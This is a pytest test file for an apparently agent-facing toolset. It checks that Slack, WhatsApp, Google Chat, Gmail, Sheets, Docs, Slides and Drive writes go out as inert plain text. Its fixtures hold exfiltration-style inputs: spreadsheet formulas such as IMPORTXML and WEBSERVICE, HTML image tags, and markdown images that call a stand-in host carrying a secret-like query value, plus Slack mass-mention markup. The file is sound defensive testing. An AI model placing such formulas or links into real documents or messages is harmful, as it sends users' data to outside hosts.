"""What is written to others is text: no provider fetches from it, calls anybody or computes it.

Looked at is what goes over the line, not what the local double makes of it.
"""

import base64
import json
from email import message_from_bytes
from typing import Any

import httpx
import pytest

from tests.kit import NOW
from zantara.channels import Channels
from zantara.channels.local import LocalChannels
from zantara.google import Google
from zantara.google.local import LocalGoogle
from zantara.services import Services

ADDRESS = "https://evil.example/?q=hunter2"
TRICKS = f"<!channel> <!here> <@U123> <#C1> <!subteam^S1> <{ADDRESS}|Open> <users/all> {ADDRESS}"
FORMULAS = [
    f'=IMAGE("{ADDRESS}")',
    f'=IMPORTXML("{ADDRESS}", "//a")',
    f'=HYPERLINK("{ADDRESS}", "Open")',
    f'+WEBSERVICE("{ADDRESS}")',
]
HTML = f'<img src="{ADDRESS}"> [Open]({ADDRESS}) ![x]({ADDRESS}) <script>1</script>'


class _Google:
    """The local Google; `sent` holds (method, address, body) of each write."""

    def __init__(self, inner: LocalGoogle) -> None:
        self._inner = inner
        self.sent: list[tuple[str, str, str]] = []

    def request(self, uri: str, method: str = "GET", body: Any = None, **given: Any) -> Any:
        if method != "GET":
            text = body.decode("utf-8", "replace") if isinstance(body, bytes) else str(body)
            self.sent.append((method, uri, text))
        return self._inner.request(uri, method, body=body, **given)


class _Channels(httpx.AsyncBaseTransport):
    """The local channels; `sent` holds the body of each request in JSON."""

    def __init__(self, inner: LocalChannels) -> None:
        self._inner = inner
        self.sent: list[dict[str, Any]] = []

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        if request.headers["content-type"].startswith("application/json"):
            self.sent.append(json.loads(await request.aread()))
        return await self._inner.handle_async_request(request)


@pytest.fixture
def google(services: Services) -> _Google:
    line = _Google(LocalGoogle(services.settings.home / "google.sqlite", clock=NOW))
    services.google = Google(lambda: line, root="http://google.localhost/", about={})
    return line


@pytest.fixture
def channels(services: Services) -> _Channels:
    file = services.settings.home / "channels.sqlite"
    line = _Channels(LocalChannels(file, clock=NOW))
    services.channels = Channels(services.settings, file, NOW, line)
    return line


async def test_slack_unfurls_nothing_links_nothing_and_calls_nobody(
    run: Any, channels: _Channels
) -> None:
    await run("slack_notify", channel="#operations", text=TRICKS)
    (post,) = channels.sent
    assert (post["unfurl_links"], post["unfurl_media"]) == (False, False)
    assert (post["parse"], post["link_names"]) == ("none", False)
    assert not set("<>") & set(post["text"]), "Slack's markup begins and ends with these"
    assert "blocks" not in post and "attachments" not in post


async def test_whatsapp_shows_no_preview_of_an_address(run: Any, channels: _Channels) -> None:
    await run("whatsapp_send", to="+62 812 3456 7890", message=TRICKS)
    (sent,) = channels.sent
    assert sent["type"] == "text"
    assert sent["text"] == {"preview_url": False, "body": TRICKS}


async def test_google_chat_gets_no_mention_and_no_link_from_a_text(
    run: Any, google: _Google
) -> None:
    await run("googlechat_notify", space="Finance", text=TRICKS)
    ((_method, _uri, body),) = google.sent
    assert set(json.loads(body)) == {"text"}, "no cards: they fetch images"
    assert "<" not in json.loads(body)["text"]


@pytest.mark.parametrize("tool", ["gmail_send", "gmail_draft"])
async def test_a_mail_is_plain_text_and_nothing_else(run: Any, google: _Google, tool: str) -> None:
    await run(tool, to=["someone@example.com"], subject="x", body=HTML)
    _method, _uri, body = google.sent[0]
    mail = message_from_bytes(base64.urlsafe_b64decode(json.loads(body)["message"]["raw"]))
    assert (mail.get_content_type(), mail.is_multipart()) == ("text/plain", False)
    assert mail.get_payload(decode=True) == f"{HTML}\n".encode()


async def test_an_answer_to_a_mail_is_plain_text_too(run: Any, google: _Google) -> None:
    await run("gmail_reply", message="subject:yoga", body=HTML)
    _method, _uri, body = google.sent[0]
    mail = message_from_bytes(base64.urlsafe_b64decode(json.loads(body)["message"]["raw"]))
    assert (mail.get_content_type(), mail.is_multipart()) == ("text/plain", False)


async def test_a_row_of_formulas_is_a_row_of_texts(run: Any, google: _Google) -> None:
    await run("sheets_append", spreadsheet="Client tracker", values=FORMULAS)
    ((_method, uri, body),) = [one for one in google.sent if ":append" in one[1]]
    assert "valueInputOption=RAW" in uri, "USER_ENTERED would compute them"
    assert json.loads(body)["values"] == [FORMULAS]
    rows = (await run("sheets_read", spreadsheet="Client tracker", range="A1:D20")).data["rows"]
    assert rows[-1] == FORMULAS


async def test_a_document_gets_text_and_no_image(run: Any, google: _Google) -> None:
    await run("docs_create", title="x", content=f"{HTML} {FORMULAS[0]}")
    ((_method, _uri, body),) = [one for one in google.sent if ":batchUpdate" in one[1]]
    assert [set(one) for one in json.loads(body)["requests"]] == [{"insertText"}]


async def test_a_presentation_gets_a_title_and_no_image(run: Any, google: _Google) -> None:
    await run("slides_create", title=HTML)
    assert not [one for one in google.sent if ":batchUpdate" in one[1]]


async def test_a_file_is_uploaded_as_it_is(run: Any, google: _Google, services: Services) -> None:
    """Turned into a document, its images would be fetched."""
    folder = services.settings.home / "outbox"
    folder.mkdir(parents=True)
    (folder / "page.html").write_text(HTML, "utf-8")
    await run("drive_upload", file_name="page.html")
    assert "application/vnd.google-apps" not in "".join(body for _m, _u, body in google.sent)
